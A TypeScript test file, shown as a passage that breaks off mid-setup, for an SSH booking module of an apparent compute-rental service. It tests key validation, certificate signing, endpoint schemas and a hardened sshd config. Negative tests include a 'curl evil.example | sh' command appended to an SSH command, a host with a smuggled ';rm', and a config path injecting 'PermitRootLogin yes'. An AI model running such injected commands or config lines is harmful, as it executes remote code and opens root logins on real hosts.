/**
 * The SSH side of a booking: borrower key checks with the on-chain reason codes, the host CA and its
 * certificates (read back by OpenSSH's own `ssh-keygen`), the endpoint, the guest's sshd_config, and —
 * where /usr/sbin/sshd exists and we are root — real logins against a real sshd running that config.
 *
 * Run: node --import tsx --test --test-reporter=spec host-agent/test/ssh.test.ts
 */
import assert from "node:assert/strict";
import { type ChildProcess, execFile, execFileSync, spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { chmod } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import {
  buildSshEndpoint,
  CA_KEY_FILE,
  CA_PUB_FILE,
  DeclineReason,
  endpointFileNames,
  fingerprints,
  generateHostKeys,
  guestSshdConfig,
  knownHostsText,
  loadOrCreateCa,
  MAX_SSH_KEY_LINE_BYTES,
  type SshCa,
  SshEndpointSchema,
  signUserCertificate,
  validateBorrowerKey,
} from "../src/ssh/index.ts";

const REPO = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const work = mkdtempSync(join(tmpdir(), "ch-ssh-test-"));
after(() => rmSync(work, { recursive: true, force: true }));

// ---------------------------------------------------------------------------------------------------
// helpers

const SSHD = "/usr/sbin/sshd";
const canRunSshd = existsSync(SSHD) && process.getuid?.() === 0;
if (!canRunSshd) {
  process.stderr.write(
    `\n!!! SKIPPING the real-sshd login tests: ${existsSync(SSHD) ? "not root (sshd must switch users)" : `${SSHD} not installed (apt-get install openssh-server)`} !!!\n\n`,
  );
}

interface GenKey {
  path: string;
  pub: string;
  comment: string;
}
let keyN = 0;
/** A key made by OpenSSH's own ssh-keygen, so the parser is checked against the real format. */
function keygen(type: string, bits?: number): GenKey {
  const path = join(work, `k${keyN++}-${type}${bits ?? ""}`);
  const args = ["-q", "-t", type, "-N", "", "-C", `test-${type}@computehive`, "-f", path];
  if (bits !== undefined) args.push("-b", String(bits));
  execFileSync("ssh-keygen", args, { stdio: "pipe" });
  return { path, pub: readFileSync(`${path}.pub`, "utf8"), comment: `test-${type}@computehive` };
}

/** `ssh-keygen -l` → { bits, fingerprint }. */
function sshKeygenFingerprint(pubLine: string): { bits: number; fingerprint: string } {
  const f = join(work, `fp${keyN++}.pub`);
  writeFileSync(f, pubLine);
  const out = execFileSync("ssh-keygen", ["-l", "-E", "sha256", "-f", f], { encoding: "utf8" });
  const [bits, fingerprint] = out.split(" ");
  return { bits: Number(bits), fingerprint: fingerprint as string };
}

/** Writes a certificate and returns `ssh-keygen -L` as a parsed record (TZ=UTC). */
function inspectCert(certText: string): {
  type: string;
  publicKey: string;
  signingCa: string;
  keyId: string;
  serial: string;
  valid: string;
  principals: string[];
  critical: string[];
  extensions: string[];
} {
  const f = join(work, `cert${keyN++}-cert.pub`);
  writeFileSync(f, `${certText}\n`);
  const out = execFileSync("ssh-keygen", ["-L", "-f", f], {
    encoding: "utf8",
    env: { ...process.env, TZ: "UTC" },
  });
  const field = (name: string) => {
    const m = new RegExp(`^\\s+${name}: ?(.*)$`, "m").exec(out);
    assert.ok(m, `ssh-keygen -L printed no ${name}:\n${out}`);
    return (m[1] as string).trim();
  };
  const list = (name: string) => {
    const lines = out.split("\n");
    const i = lines.findIndex((l) => new RegExp(`^\\s+${name}:`).test(l));
    const inline = (lines[i] as string).split(":").slice(1).join(":").trim();
    if (inline === "(none)") return [];
    const items: string[] = [];
    for (let j = i + 1; j < lines.length && /^\s{16}\S/.test(lines[j] as string); j++) {
      items.push((lines[j] as string).trim());
    }
    return items;
  };
  return {
    type: field("Type"),
    publicKey: field("Public key"),
    signingCa: field("Signing CA"),
    keyId: field("Key ID"),
    serial: field("Serial"),
    valid: field("Valid"),
    principals: list("Principals"),
    critical: list("Critical Options"),
    extensions: list("Extensions"),
  };
}

/** ISO-8601 UTC without the zone, as `ssh-keygen -L` prints under TZ=UTC. */
const iso = (s: number) => new Date(s * 1000).toISOString().slice(0, 19);

/** Builds an SSH wire blob from strings / buffers (each as an RFC 4251 string). */
function blob(...parts: (string | Buffer)[]): Buffer {
  return Buffer.concat(
    parts.map((p) => {
      const b = typeof p === "string" ? Buffer.from(p) : p;
      const len = Buffer.alloc(4);
      len.writeUInt32BE(b.length);
      return Buffer.concat([len, b]);
    }),
  );
}
const line = (type: string, b: Buffer, comment = "") => `${type} ${b.toString("base64")}${comment}`;
const blobOf = (pub: string) => Buffer.from(pub.split(" ")[1] as string, "base64");

function expectDecline(input: string | Uint8Array, code: keyof typeof DeclineReason, msg?: RegExp) {
  const v = validateBorrowerKey(input);
  assert.equal(v.ok, false, `expected ${code}, got ok`);
  if (v.ok) return;
  assert.equal(v.code, code, `expected ${code}, got ${v.code}: ${v.message}`);
  assert.equal(v.reason, DeclineReason[code]);
  if (msg) assert.match(v.message, msg);
}

// Keys made once, by ssh-keygen, at test time.
const K = {
  ed25519: keygen("ed25519"),
  p256: keygen("ecdsa", 256),
  p384: keygen("ecdsa", 384),
  p521: keygen("ecdsa", 521),
  rsa2048: keygen("rsa", 2048),
  rsa3072: keygen("rsa", 3072),
  rsa4096: keygen("rsa", 4096),
};

const NOW = Math.floor(Date.now() / 1000);
const START = NOW - (NOW % 900) + 900; // next 15-minute slot
const END = START + 2 * 3600;

// ---------------------------------------------------------------------------------------------------

describe("reason codes", () => {
  test("DeclineReason mirrors contracts/src/libraries/DeclineReason.sol exactly", () => {
    const sol = readFileSync(join(REPO, "contracts/src/libraries/DeclineReason.sol"), "utf8");
    const fromSol = Object.fromEntries(
      [...sol.matchAll(/uint8\s+internal\s+constant\s+([A-Z_]+)\s*=\s*(\d+)\s*;/g)].map((m) => [
        m[1],
        Number(m[2]),
      ]),
    );
    assert.ok(Object.keys(fromSol).length >= 8, "parsed too few constants from the .sol file");
    assert.deepEqual({ ...DeclineReason }, fromSol);
  });

  test("the line limit is Market.MAX_SSH_KEY_LENGTH", () => {
    const sol = readFileSync(join(REPO, "contracts/src/Market.sol"), "utf8");
    const m = /MAX_SSH_KEY_LENGTH\s*=\s*(\d+)\s*;/.exec(sol);
    assert.ok(m, "MAX_SSH_KEY_LENGTH not found in Market.sol");
    assert.equal(MAX_SSH_KEY_LINE_BYTES, Number(m[1]));
  });
});

describe("validateBorrowerKey", () => {
  for (const [name, k, type, bits] of [
    ["ed25519", K.ed25519, "ssh-ed25519", 256],
    ["ecdsa P-256", K.p256, "ecdsa-sha2-nistp256", 256],
    ["ecdsa P-384", K.p384, "ecdsa-sha2-nistp384", 384],
    ["ecdsa P-521", K.p521, "ecdsa-sha2-nistp521", 521],
    ["rsa 3072", K.rsa3072, "ssh-rsa", 3072],
    ["rsa 4096", K.rsa4096, "ssh-rsa", 4096],
  ] as const) {
    test(`accepts ${name}; bits and fingerprint as ssh-keygen -l prints them`, () => {
      const v = validateBorrowerKey(k.pub);
      assert.ok(v.ok, v.ok ? "" : v.message);
      const ref = sshKeygenFingerprint(k.pub);
      assert.equal(v.type, type);
      assert.equal(v.bits, bits);
      assert.equal(v.bits, ref.bits);
      assert.equal(v.fingerprint, ref.fingerprint);
      assert.equal(v.publicKey, k.pub.split(" ").slice(0, 2).join(" "));
      assert.equal(v.comment, k.comment);
    });
  }

  test("accepts raw event bytes, a CRLF ending, surrounding blanks, no comment", () => {
    assert.ok(validateBorrowerKey(new Uint8Array(Buffer.from(K.ed25519.pub))).ok);
    assert.ok(validateBorrowerKey(`${K.ed25519.pub.trimEnd()}\r\n`).ok);
    assert.ok(validateBorrowerKey(`  ${K.ed25519.pub.trimEnd()}  `).ok);
    assert.ok(validateBorrowerKey(K.ed25519.pub.split(" ").slice(0, 2).join(" ")).ok);
  });

  test("RSA 2048 → SSH_KEY_TOO_WEAK (4)", () => {
    expectDecline(K.rsa2048.pub, "SSH_KEY_TOO_WEAK", /2048 bits/);
  });

  test("DSA → SSH_KEY_UNSUPPORTED_TYPE (3)", (t) => {
    let dsa: GenKey;
    try {
      dsa = keygen("dsa");
    } catch {
      // Newer OpenSSH builds cannot make DSA keys any more; craft one (the check is on the type).
      t.diagnostic("ssh-keygen cannot make DSA keys here; using a crafted ssh-dss blob");
      const mp = (n: number) => Buffer.concat([Buffer.from([0x7f]), Buffer.alloc(n - 1, 1)]);
      dsa = {
        path: "",
        comment: "",
        pub: line("ssh-dss", blob("ssh-dss", mp(128), mp(20), mp(128), mp(128))),
      };
    }
    expectDecline(dsa.pub, "SSH_KEY_UNSUPPORTED_TYPE", /DSA/);
  });

  test("a certificate as input → SSH_KEY_UNSUPPORTED_TYPE (3)", () => {
    // Signed by ssh-keygen itself, so this does not depend on our own signer.
    const ca = keygen("ed25519");
    execFileSync("ssh-keygen", ["-q", "-s", ca.path, "-I", "x", "-n", "u", `${K.p256.path}.pub`], {
      stdio: "pipe",
    });
    const cert = readFileSync(`${K.p256.path}-cert.pub`, "utf8");
    assert.match(cert, /^ecdsa-sha2-nistp256-cert-v01@openssh\.com /);
    expectDecline(cert, "SSH_KEY_UNSUPPORTED_TYPE", /certificate/);
  });

  test("FIDO security keys (sk-*) and unknown types → SSH_KEY_UNSUPPORTED_TYPE (3)", () => {
    const pk = blobOf(K.ed25519.pub).subarray(-32);
    expectDecline(
      line("sk-ssh-ed25519@openssh.com", blob("sk-ssh-ed25519@openssh.com", pk, "ssh:")),
      "SSH_KEY_UNSUPPORTED_TYPE",
      /security key/,
    );
    expectDecline(line("ssh-foo", blob("ssh-foo", pk)), "SSH_KEY_UNSUPPORTED_TYPE", /not accepted/);
  });

  test("type in the line differs from the type in the blob → SSH_KEY_MALFORMED (2)", () => {
    const b64 = K.ed25519.pub.split(" ")[1];
    expectDecline(`ssh-rsa ${b64}`, "SSH_KEY_MALFORMED", /says ssh-rsa but the key blob is ssh-ed25519/);
    expectDecline(
      `ecdsa-sha2-nistp384 ${K.p256.pub.split(" ")[1]}`,
      "SSH_KEY_MALFORMED",
      /blob is ecdsa-sha2-nistp256/,
    );
    // Also the curve field inside an ECDSA blob.
    const p256 = blobOf(K.p256.pub);
    const r = blob("ecdsa-sha2-nistp256", "nistp384", p256.subarray(4 + 19 + 4 + 8 + 4));
    expectDecline(line("ecdsa-sha2-nistp256", r), "SSH_KEY_MALFORMED", /curve/);
  });

  test("truncated base64 and truncated blobs → SSH_KEY_MALFORMED (2)", () => {
    const [type, b64] = K.ed25519.pub.split(" ") as [string, string];
    expectDecline(`${type} ${b64.slice(0, -3)}`, "SSH_KEY_MALFORMED", /base64/); // not a multiple of 4
    expectDecline(`${type} ${b64.slice(0, 60)}`, "SSH_KEY_MALFORMED", /runs past the end/); // valid base64, short blob
    const rsa = K.rsa3072.pub.split(" ")[1] as string;
    expectDecline(`ssh-rsa ${rsa.slice(0, 400)}`, "SSH_KEY_MALFORMED");
  });

  test("garbage → SSH_KEY_MALFORMED (2)", () => {
    for (const g of [
      "",
      "\n",
      "hello",
      "ssh-ed25519",
      "ssh-ed25519 !!!!",
      "ssh-ed25519 AAAA====",
      `from="10.0.0.1" ${K.ed25519.pub}`,
      `${K.ed25519.pub.trimEnd()}\0`,
      "\u00e9d25519 AAAAC3NzaC1lZDI1NTE5",
    ]) {
      expectDecline(g, "SSH_KEY_MALFORMED");
    }
  });

  test("two lines, or a line break inside → SSH_KEY_MALFORMED (2)", () => {
    expectDecline(`${K.ed25519.pub}${K.p256.pub}`, "SSH_KEY_MALFORMED", /more than one line/);
    expectDecline(`${K.ed25519.pub}\n`, "SSH_KEY_MALFORMED", /more than one line/);
    expectDecline(`${K.ed25519.pub.trimEnd()}\rx`, "SSH_KEY_MALFORMED", /more than one line/);
  });

  test("trailing bytes in the blob and invalid key material → SSH_KEY_MALFORMED (2)", () => {
    const ed = blobOf(K.ed25519.pub);
    expectDecline(
      line("ssh-ed25519", Buffer.concat([ed, Buffer.from([0])])),
      "SSH_KEY_MALFORMED",
      /trailing/,
    );
    expectDecline(
      line("ssh-ed25519", blob("ssh-ed25519", Buffer.alloc(31, 7))),
      "SSH_KEY_MALFORMED",
      /31 bytes/,
    );
    // A P-256 point that is not on the curve.
    const p256 = Buffer.from(blobOf(K.p256.pub));
    p256[p256.length - 1] = (p256[p256.length - 1] as number) ^ 1;
    expectDecline(line("ecdsa-sha2-nistp256", p256), "SSH_KEY_MALFORMED", /not a valid public key/);
    // RSA: even exponent; a non-canonical mpint (a superfluous zero byte before the modulus).
    const rsa = blobOf(K.rsa3072.pub);
    const eLen = rsa.readUInt32BE(11);
    const n = rsa.subarray(11 + 4 + eLen + 4);
    expectDecline(line("ssh-rsa", blob("ssh-rsa", Buffer.from([2]), n)), "SSH_KEY_MALFORMED", /exponent/);
    expectDecline(
      line("ssh-rsa", blob("ssh-rsa", Buffer.from([1, 0, 1]), Buffer.concat([Buffer.from([0]), n]))),
      "SSH_KEY_MALFORMED",
      /leading zero/,
    );
  });

  test(`over ${MAX_SSH_KEY_LINE_BYTES} bytes → SSH_KEY_TOO_LONG (5); exactly ${MAX_SSH_KEY_LINE_BYTES} is fine`, () => {
    const bare = K.ed25519.pub.split(" ").slice(0, 2).join(" ");
    const exact = `${bare} ${"c".repeat(MAX_SSH_KEY_LINE_BYTES - bare.length - 1)}`;
    assert.equal(Buffer.byteLength(exact), MAX_SSH_KEY_LINE_BYTES);
    assert.ok(validateBorrowerKey(exact).ok);
    expectDecline(`${exact}c`, "SSH_KEY_TOO_LONG", /1025 bytes/);
    // Multi-byte comment characters count as bytes, like the contract counts them.
    expectDecline(`${bare} ${"é".repeat(500)}`, "SSH_KEY_TOO_LONG");
    // A key too big to ever fit (RSA 8192-sized blob) is too long before anything else is looked at.
    expectDecline(
      line("ssh-rsa", blob("ssh-rsa", Buffer.from([1, 0, 1]), Buffer.alloc(1025, 0x55))),
      "SSH_KEY_TOO_LONG",
    );
  });
});

// ---------------------------------------------------------------------------------------------------

describe("certificate authority", () => {
  let ca: SshCa;
  const caDir = join(work, "state");
  before(async () => {
    ca = await loadOrCreateCa(caDir);
  });

  test("creates an ed25519 CA, 0600 key + .pub, that ssh-keygen reads; reloads the same key", async () => {
    const st = statSync(join(caDir, CA_KEY_FILE));
    assert.equal(st.mode & 0o777, 0o600);
    assert.equal(statSync(caDir).mode & 0o777, 0o700);
    assert.match(ca.publicKey, /^ssh-ed25519 AAAAC3NzaC1lZDI1NTE5[A-Za-z0-9+/]+ computehive-user-ca$/);
    assert.equal(readFileSync(join(caDir, CA_PUB_FILE), "utf8"), `${ca.publicKey}\n`);
    const derived = execFileSync("ssh-keygen", ["-y", "-f", ca.keyPath], { encoding: "utf8" });
    assert.equal(derived.split(" ").slice(0, 2).join(" "), ca.publicKey.split(" ").slice(0, 2).join(" "));
    assert.equal(ca.fingerprint, sshKeygenFingerprint(ca.publicKey).fingerprint);
    const again = await loadOrCreateCa(caDir);
    assert.equal(again.publicKey, ca.publicKey);
  });

  test("concurrent first starts agree on one key", async () => {
    const dir = join(work, "race");
    const cas = await Promise.all(Array.from({ length: 8 }, () => loadOrCreateCa(dir)));
    assert.equal(new Set(cas.map((c) => c.publicKey)).size, 1);
    assert.equal(
      execFileSync("ls", [dir], { encoding: "utf8" }).trim().split("\n").length,
      2,
      "temp files left",
    );
  });

  test("refuses a CA key readable by others, and restores a missing .pub", async () => {
    const dir = join(work, "loose");
    const c = await loadOrCreateCa(dir);
    rmSync(join(dir, CA_PUB_FILE));
    assert.equal((await loadOrCreateCa(dir)).publicKey, c.publicKey);
    assert.ok(existsSync(join(dir, CA_PUB_FILE)));
    await chmod(join(dir, CA_KEY_FILE), 0o644);
    await assert.rejects(loadOrCreateCa(dir), /accessible by group or others/);
  });

  for (const [name, k] of [
    ["ed25519", K.ed25519],
    ["ecdsa P-256", K.p256],
    ["ecdsa P-384", K.p384],
    ["ecdsa P-521", K.p521],
    ["rsa 3072", K.rsa3072],
  ] as const) {
    test(`user certificate for ${name}: ssh-keygen -L shows exactly the request`, () => {
      const v = validateBorrowerKey(k.pub);
      assert.ok(v.ok);
      const cert = signUserCertificate({
        ca,
        borrowerKey: v,
        principal: "computehive",
        validAfter: START,
        validBefore: END,
        keyId: "computehive:31337:booking:42",
        serial: 42n,
      });
      const L = inspectCert(cert);
      assert.equal(L.type, `${v.type}-cert-v01@openssh.com user certificate`);
      assert.match(L.publicKey, new RegExp(` ${v.fingerprint.replace(/[+/]/g, "\\$&")}$`));
      assert.equal(L.signingCa, `ED25519 ${ca.fingerprint} (using ssh-ed25519)`);
      assert.equal(L.keyId, '"computehive:31337:booking:42"');
      assert.equal(L.serial, "42");
      assert.equal(L.valid, `from ${iso(START)} to ${iso(END)}`);
      assert.deepEqual(L.principals, ["computehive"]);
      assert.deepEqual(L.critical, []);
      assert.deepEqual(L.extensions, ["permit-pty"]);
    });
  }

  test("valid exactly [start, end): OpenSSH's own check at start-1, start, end-1, end", () => {
    // ssh-keygen -Y verify runs sshkey_cert_check_authority — the same function sshd uses — at a
    // chosen time, so the boundaries are checked to the second without waiting for a clock.
    const cert = signUserCertificate({
      ca,
      borrowerKey: K.ed25519.pub,
      principal: "computehive",
      validAfter: START,
      validBefore: END,
      keyId: "window",
      serial: 1,
    });
    const certPath = `${K.ed25519.path}-cert.pub`;
    writeFileSync(certPath, `${cert}\n`);
    const msg = join(work, "msg");
    writeFileSync(msg, "hello");
    rmSync(`${msg}.sig`, { force: true });
    execFileSync("ssh-keygen", ["-q", "-Y", "sign", "-f", certPath, "-n", "test", msg], { stdio: "pipe" });
    const signers = join(work, "allowed_signers");
    writeFileSync(signers, `computehive cert-authority ${ca.publicKey}\n`);
    const at = (s: number) => {
      const stamp = `${new Date(s * 1000).toISOString().replace(/[-:T]/g, "").slice(0, 14)}Z`; // YYYYMMDDHHMMSSZ
      try {
        execFileSync(
          "ssh-keygen",
          [
            "-Y",
            "verify",
            "-f",
            signers,
            "-I",
            "computehive",
            "-n",
            "test",
            "-s",
            `${msg}.sig`,
            "-O",
            `verify-time=${stamp}`,
          ],
          { input: "hello", stdio: "pipe" },
        );
        return "good";
      } catch (e) {
        const err = String((e as { stderr?: Buffer }).stderr);
        return /not yet valid/.test(err) ? "not yet valid" : /expired/.test(err) ? "expired" : err;
      }
    };
    assert.equal(at(START - 1), "not yet valid");
    assert.equal(at(START), "good");
    assert.equal(at(END - 1), "good");
    assert.equal(at(END), "expired");
  });

  test("refuses bad requests", () => {
    const base = {
      ca,
      borrowerKey: K.ed25519.pub,
      principal: "computehive",
      validAfter: START,
      validBefore: END,
      keyId: "x",
      serial: 1,
    };
    assert.throws(() => signUserCertificate({ ...base, validBefore: START }), /empty window/);
    assert.throws(() => signUserCertificate({ ...base, validAfter: START + 0.5 }), /whole Unix seconds/);
    assert.throws(() => signUserCertificate({ ...base, principal: "a,b" }), /not a user name/);
    assert.throws(() => signUserCertificate({ ...base, principal: "*" }), /not a user name/);
    assert.throws(() => signUserCertificate({ ...base, serial: 1n << 64n }), /64 bits/);
    assert.throws(() => signUserCertificate({ ...base, keyId: "a\nb" }), /keyId/);
    assert.throws(() => signUserCertificate({ ...base, borrowerKey: K.rsa2048.pub }), /SSH_KEY_TOO_WEAK/);
    assert.ok(signUserCertificate({ ...base, serial: (1n << 64n) - 1n }));
  });

  test("host keys: OpenSSH reads the private keys; fingerprints match ssh-keygen", () => {
    const keys = generateHostKeys({ ecdsa: true });
    assert.deepEqual(
      keys.map((k) => [k.type, k.fileName]),
      [
        ["ssh-ed25519", "ssh_host_ed25519_key"],
        ["ecdsa-sha2-nistp256", "ssh_host_ecdsa_key"],
      ],
    );
    for (const k of keys) {
      const f = join(work, `hk${keyN++}`);
      writeFileSync(f, k.privateKey, { mode: 0o600 });
      const pub = execFileSync("ssh-keygen", ["-y", "-f", f], { encoding: "utf8" });
      assert.equal(pub.split(" ").slice(0, 2).join(" "), k.publicKey.split(" ").slice(0, 2).join(" "));
      assert.equal(k.fingerprint, sshKeygenFingerprint(k.publicKey).fingerprint);
    }
    assert.deepEqual(
      fingerprints(keys.map((k) => k.publicKey)),
      keys.map((k) => k.fingerprint),
    );
    assert.notEqual(generateHostKeys()[0]?.publicKey, keys[0]?.publicKey, "host keys must be fresh");
    assert.throws(() => fingerprints(["nope"]), /not a usable public key/);
  });
});

// ---------------------------------------------------------------------------------------------------

describe("endpoint", () => {
  let ca: SshCa;
  before(async () => {
    ca = await loadOrCreateCa(join(work, "state"));
  });
  const make = (pub: string, over: Partial<Parameters<typeof buildSshEndpoint>[0]> = {}) =>
    buildSshEndpoint({
      bookingId: 123456n,
      host: "gpu-7.lender.example",
      port: 22001,
      user: "computehive",
      hostPublicKeys: generateHostKeys().map((k) => k.publicKey),
      certificate: signUserCertificate({
        ca,
        borrowerKey: pub,
        principal: "computehive",
        validAfter: START,
        validBefore: END,
        keyId: "computehive:31337:booking:123456",
        serial: 123456n,
      }),
      ...over,
    });

  test("ed25519 endpoint is complete and under 1,500 bytes of JSON", (t) => {
    const ep = make(K.ed25519.pub);
    const json = JSON.stringify(ep);
    t.diagnostic(`ed25519 endpoint JSON: ${Buffer.byteLength(json)} bytes`);
    assert.ok(Buffer.byteLength(json) < 1500, `${Buffer.byteLength(json)} bytes`);
    assert.equal(ep.version, 1);
    assert.equal(ep.bookingId, "123456");
    assert.equal(ep.validAfter, START);
    assert.equal(ep.validBefore, END);
    assert.deepEqual(ep.hostKeyFingerprints, fingerprints(ep.hostKeys));
    assert.equal(
      ep.sshCommand,
      "ssh -i ~/.ssh/id_ed25519 -o CertificateFile=computehive-123456-cert.pub -o UserKnownHostsFile=computehive-123456.known_hosts -o StrictHostKeyChecking=yes -o IdentitiesOnly=yes -p 22001 computehive@gpu-7.lender.example",
    );
    assert.equal(knownHostsText(ep), `[gpu-7.lender.example]:22001 ${ep.hostKeys[0]}\n`);
    assert.deepEqual(SshEndpointSchema.parse(JSON.parse(json)), ep);
  });

  test("the largest accepted keys still fit Market.MAX_ENDPOINT_LENGTH once encrypted", (t) => {
    const sol = readFileSync(join(REPO, "contracts/src/Market.sol"), "utf8");
    const max = Number(/MAX_ENDPOINT_LENGTH\s*=\s*(\d+)\s*;/.exec(sol)?.[1]);
    assert.ok(max > 0);
    // version byte + ephemeral x25519 key + 24-byte nonce + 16-byte tag: well under 128 bytes.
    const envelope = 128;
    for (const [name, k] of [
      ["rsa 4096", K.rsa4096],
      ["ecdsa P-521", K.p521],
    ] as const) {
      const bytes = Buffer.byteLength(
        JSON.stringify(
          make(k.pub, { hostPublicKeys: generateHostKeys({ ecdsa: true }).map((h) => h.publicKey) }),
        ),
      );
      t.diagnostic(`${name} endpoint JSON with two host keys: ${bytes} bytes`);
      assert.ok(bytes + envelope <= max, `${name}: ${bytes} bytes`);
    }
  });

  test("IPv6 hosts and port 22", () => {
    const ep = make(K.ed25519.pub, { host: "2001:db8::7", port: 22 });
    assert.match(ep.sshCommand, / -p 22 computehive@\[2001:db8::7\]$/);
    assert.equal(knownHostsText(ep), `2001:db8::7 ${ep.hostKeys[0]}\n`);
  });

  test("the schema refuses inconsistent or unsafe endpoints", () => {
    const ep = make(K.ed25519.pub);
    const bad = (patch: Record<string, unknown>, path: string) => {
      const r = SshEndpointSchema.safeParse({ ...ep, ...patch });
      assert.equal(r.success, false, `accepted ${JSON.stringify(patch).slice(0, 80)}`);
      assert.ok(
        r.error?.issues.some((i) => i.path[0] === path || (path === "" && i.path.length === 0)),
        JSON.stringify(r.error?.issues),
      );
    };
    bad({ sshCommand: `${ep.sshCommand}; curl evil.example | sh` }, "sshCommand");
    bad({ host: "gpu.example;rm" }, "host");
    bad({ hostKeyFingerprints: [fingerprints([K.ed25519.pub])[0]] }, "hostKeyFingerprints");
    bad({ validBefore: END + 1 }, "certificate");
    bad({ user: "someone" }, "certificate");
    bad({ version: 2 }, "version");
    bad({ extra: 1 }, "");
    bad({ certificate: K.ed25519.pub.trim() }, "certificate");
    assert.throws(() => make(K.ed25519.pub, { user: "other" }), /principal/);
    assert.throws(() => make(K.ed25519.pub, { hostPublicKeys: [K.rsa2048.pub] }), /host key refused/);
  });
});

// ---------------------------------------------------------------------------------------------------

describe("guest sshd_config", () => {
  test("has the required directives and refuses root / odd paths", () => {
    const cfg = guestSshdConfig({ user: "computehive" });
    for (const l of [
      "TrustedUserCAKeys /etc/ssh/ca.pub",
      "AuthorizedKeysFile none",
      "AuthorizedPrincipalsFile none",
      "PasswordAuthentication no",
      "KbdInteractiveAuthentication no",
      "PermitRootLogin no",
      "AllowUsers computehive",
      "AllowTcpForwarding no",
      "X11Forwarding no",
      "AllowAgentForwarding no",
      "PermitTunnel no",
      "HostKey /etc/ssh/ssh_host_ed25519_key",
      "LogLevel VERBOSE",
    ]) {
      assert.ok(cfg.split("\n").includes(l), `missing: ${l}`);
    }
    assert.doesNotMatch(cfg, /^\s*Include/m);
    assert.throws(() => guestSshdConfig({ user: "root" }), /must not be root/);
    assert.throws(
      () => guestSshdConfig({ user: "x", caPublicKeyPath: "/etc/ssh/ca.pub\nPermitRootLogin yes" }),
      /path/,
    );
    assert.throws(() => guestSshdConfig({ user: "Bad User" }), /user name/);
  });

  test("OpenSSH's sshd -T reads it as intended", {
    skip: !canRunSshd && "needs /usr/sbin/sshd and root",
  }, () => {
    ensurePrivsepDir();
    const dir = mkdtempSync(join(work, "sshdT-"));
    const hk = generateHostKeys()[0];
    assert.ok(hk);
    writeFileSync(join(dir, "hk"), hk.privateKey, { mode: 0o600 });
    writeFileSync(join(dir, "ca.pub"), `${generateHostKeys()[0]?.publicKey}\n`);
    const cfgPath = join(dir, "sshd_config");
    writeFileSync(
      cfgPath,
      guestSshdConfig({
        user: "computehive",
        caPublicKeyPath: join(dir, "ca.pub"),
        hostKeyPaths: [join(dir, "hk")],
      }),
    );
    let out: string;
    try {
      out = execFileSync(
        "/usr/sbin/sshd",
        ["-T", "-f", cfgPath, "-C", "user=computehive,host=x,addr=192.0.2.1"],
        {
          encoding: "utf8",
          stdio: "pipe",
        },
      );
    } catch (e) {
      assert.fail(`sshd -T refused the config: ${String((e as { stderr?: string }).stderr)}`);
    }
    const eff = new Map(
      out
        .trim()
        .split("\n")
        .map((l) => [l.slice(0, l.indexOf(" ")), l.slice(l.indexOf(" ") + 1)]),
    );
    const want: Record<string, string> = {
      passwordauthentication: "no",
      kbdinteractiveauthentication: "no",
      permitrootlogin: "no",
      authorizedkeysfile: "none",
      trustedusercakeys: join(dir, "ca.pub"),
      allowusers: "computehive",
      allowtcpforwarding: "no",
      allowagentforwarding: "no",
      allowstreamlocalforwarding: "no",
      x11forwarding: "no",
      permittunnel: "no",
      disableforwarding: "yes",
      authenticationmethods: "publickey",
      casignaturealgorithms: "ssh-ed25519",
      loglevel: "VERBOSE",
    };
    for (const [k, v] of Object.entries(want)) assert.equal(eff.get(k), v, k);
  });
});

// ---------------------------------------------------------------------------------------------------
// A real OpenSSH sshd, running the generated config, and the real ssh client logging in.

/** sshd (even `sshd -T`) insists on its compiled-in privilege separation directory. */
function ensurePrivsepDir() {
  if (!existsSync("/run/sshd")) mkdirSync("/run/sshd", { recursive: true, mode: 0o755 });
}

interface Attempt {
  code: number;
  stdout: string;
  stderr: string;
}

function runSsh(args: string[], cwd: string): Promise<Attempt> {
  return new Promise((resolve) => {
    execFile("ssh", args, { cwd, timeout: 20_000, encoding: "utf8" }, (err, stdout, stderr) => {
      const code = err ? (typeof err.code === "number" ? err.code : -1) : 0;
      resolve({ code, stdout, stderr });
    }).stdin?.end();
  });
}

async function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.once("error", reject);
    s.listen(0, "127.0.0.1", () => {
      const a = s.address();
      s.close(() => resolve(typeof a === "object" && a ? a.port : 0));
    });
  });
}

describe("real sshd with the guest config", { skip: !canRunSshd && "needs /usr/sbin/sshd and root" }, () => {
  // The login user: root is the one account sure to exist here, so this test — and only this test —
  // changes two lines of the production config (AllowUsers, PermitRootLogin prohibit-password, which
  // still refuses passwords). Everything else is guestSshdConfig's text as the guest gets it.
  const USER = "root";
  const dir = join(work, "sshd");
  let port = 0;
  let ctlPort = 0;
  let sshd: ChildProcess | undefined;
  let log = "";
  let ca: SshCa;
  let otherCa: SshCa;
  let knownHosts = "";
  const ctlKnownHosts = join(dir, "control.known_hosts");
  let endpoint: ReturnType<typeof buildSshEndpoint>;
  const files = endpointFileNames("777");

  before(async () => {
    mkdirSync(dir, { recursive: true });
    ensurePrivsepDir();
    ca = await loadOrCreateCa(join(dir, "ca"));
    otherCa = await loadOrCreateCa(join(dir, "other-ca"));
    const hostKeys = generateHostKeys();
    const hkPaths = hostKeys.map((k) => {
      const p = join(dir, k.fileName);
      writeFileSync(p, k.privateKey, { mode: 0o600 });
      return p;
    });
    port = await freePort();
    ctlPort = await freePort();
    let cfg = guestSshdConfig({
      user: "computehive",
      caPublicKeyPath: ca.publicKeyPath,
      hostKeyPaths: hkPaths,
      port,
      listenAddress: "127.0.0.1",
    });
    const swap = (from: string, to: string) => {
      assert.equal(cfg.split("\n").filter((l) => l === from).length, 1, `expected one "${from}"`);
      cfg = cfg.replace(`\n${from}\n`, `\n${to}\n`);
    };
    swap("AllowUsers computehive", `AllowUsers ${USER}`);
    swap("PermitRootLogin no", "PermitRootLogin prohibit-password");
    // A control port for the negative tests' positive twins: there, plain authorized_keys and TCP
    // forwarding are allowed by sshd, so a refusal on the main port is the config's doing and a refusal
    // of forwarding on the control port is the certificate's doing.
    writeFileSync(join(dir, "authorized_keys"), K.ed25519.pub, { mode: 0o600 });
    cfg += [
      `Port ${ctlPort}`,
      `PidFile ${join(dir, "sshd.pid")}`,
      `Match LocalPort ${ctlPort}`,
      // Through a command: a file under /tmp would fail StrictModes (world-writable parent).
